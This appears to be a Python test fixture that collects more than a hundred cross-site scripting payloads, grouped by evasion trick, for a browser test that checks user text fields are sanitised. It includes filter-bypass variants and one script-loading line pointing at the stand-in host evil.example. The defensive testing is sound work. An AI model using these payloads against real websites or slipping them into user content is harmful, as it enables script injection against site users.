"""A corpus of hostile strings for every text field a reader or an author can fill.

Each payload, if it ever ran, would call ``alert``/``confirm``/``prompt`` or set
``window.__xss``; the browser test listens for both. Grouped by trick; ``PAYLOADS`` is all of them,
without duplicates. No NUL bytes here: those are refused at the door (tests/config).
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>window.__xss=1</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/x>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    '<script type="module">alert(1)</script>',
    "</script><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style><img src=x onerror=alert(1)></style>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror='window.__xss=1'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<iframe onload=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<p onclick=alert(1)>click</p>",
    "<a onmouseover=alert(1) href=#>x</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
]

URL_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<a href=javascript:alert(1)>click</a>",
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<embed src="javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
]

MARKDOWN_TRICKS = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](javascript&#58;alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '[x](https://example.com "title" onmouseover="alert(1)")',
    "[click][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[a](https://example.com)<img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "*<img src=x onerror=alert(1)>*",
    "> <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]

SVG_AND_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg/onload=alert(1)//",
]

ATTRIBUTE_BREAKING = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "`onmouseover=alert(1)",
    'x" style="background:url(javascript:alert(1))',
    "{{ 7*7 }}<script>alert(1)</script>",
    "{% csrf_token %}<script>alert(1)</script>",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]

UNICODE_TRICKS = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth < >
    "<scr\u200bipt>alert(1)</scr\u200bipt>",  # zero-width space
    "\u202egnp.exe<script>alert(1)</script>",  # right-to-left override
    "<img src=x onerror=\u0061lert(1)>",
    '<a href="java\u0000script:alert(1)">x</a>'.replace("\u0000", "\u200c"),
    "\ufeff<script>alert(1)</script>",  # byte-order mark
    "<script>al\u00adert(1)</script>",  # soft hyphen
    "\u2028<script>alert(1)</script>\u2029",  # line / paragraph separators
    "<\u017fcript>alert(1)</\u017fcript>",  # long s, upper-cases to S
    "<\u0131frame src=javascript:alert(1)>",  # dotless i
    "\u0130<img src=x onerror=alert(1)>",
    "e\u0301<svg onload=alert(1)>",  # combining accent
    "\U0001f600<script>alert(1)</script>",  # astral plane
    "\x0b\x0c<script>alert(1)</script>",  # vertical tab, form feed
    "\r\n<script>alert(1)</script>",
    "\u00a0javascript:alert(1)",
    "\u3008script\u3009alert(1)\u3008/script\u3009",
]

PAYLOADS = list(
    dict.fromkeys(
        SCRIPT_TAGS
        + EVENT_HANDLERS
        + URL_SCHEMES
        + MARKDOWN_TRICKS
        + SVG_AND_MATHML
        + ATTRIBUTE_BREAKING
        + UNICODE_TRICKS
    )
)

assert len(PAYLOADS) >= 100, len(PAYLOADS)
assert not any("\x00" in payload for payload in PAYLOADS)
